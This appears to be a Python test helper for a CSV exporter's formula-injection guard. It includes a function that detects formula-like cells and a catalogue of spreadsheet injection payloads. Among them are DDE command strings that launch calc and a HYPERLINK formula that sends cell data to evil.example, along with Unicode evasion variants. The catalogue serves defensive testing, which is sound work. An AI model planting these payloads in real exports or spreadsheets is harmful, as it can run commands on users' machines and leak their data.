"""Reading and writing CSV files in the CSV tests, as a spreadsheet user would."""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Sequence
from pathlib import Path


def read_rows(path: Path, columns: Sequence[str]) -> list[dict[str, str]]:
    """The file as pandas or a spreadsheet would read it (no restore of the formula guard)."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        reader = csv.DictReader(fh)
        assert reader.fieldnames == list(columns)
        return list(reader)


def write_file(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", newline="")
    return path


def looks_like_formula(cell: str) -> bool:
    """Would a spreadsheet (trimming blanks, folding compatibility forms) take the cell as a
    formula? Written independently of the exporter's rule: tab, CR or LF first, or as the first
    non-blank character one whose NFKC form starts with = + - @ or |."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    first = cell.lstrip()[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in ("=", "+", "-", "@", "|")


#: Each form of a formula a spreadsheet might run, by name (test_csv_files.py checks the
#: guard on each, test_hostile_text_and_csv.py exports and imports each).
DANGEROUS_FORMS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "pipe (DDE)": "|calc",
    "tab": "\t=x",
    "carriage return": "\r=1",
    "line feed": "\n=cmd",
    "line feed, text": "\nplain text after a line break",
    "space before equals": " =1+1",
    "spaces and tab before at": "  \t @SUM(A1)",
    "line feed before hyperlink": '\n=HYPERLINK("http://evil.example/?"&A1)',
    "no-break space before minus": "\xa0-1",
    "ideographic space before full-width equals": "\u3000\uff1d1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0b1",
    "full-width minus": "\uff0d1",
    "full-width at": "\uff20SUM(A1)",
    "full-width pipe": "\uff5ccalc",
    "small equals": "\ufe661",
    "superscript plus": "\u207a1",
    "DDE command": "=cmd|' /C calc'!A0",
    "quote before equals": "'=x",
    "quotes before space and equals": "'' =x",
    "quote before line feed": "'\n=x",
}
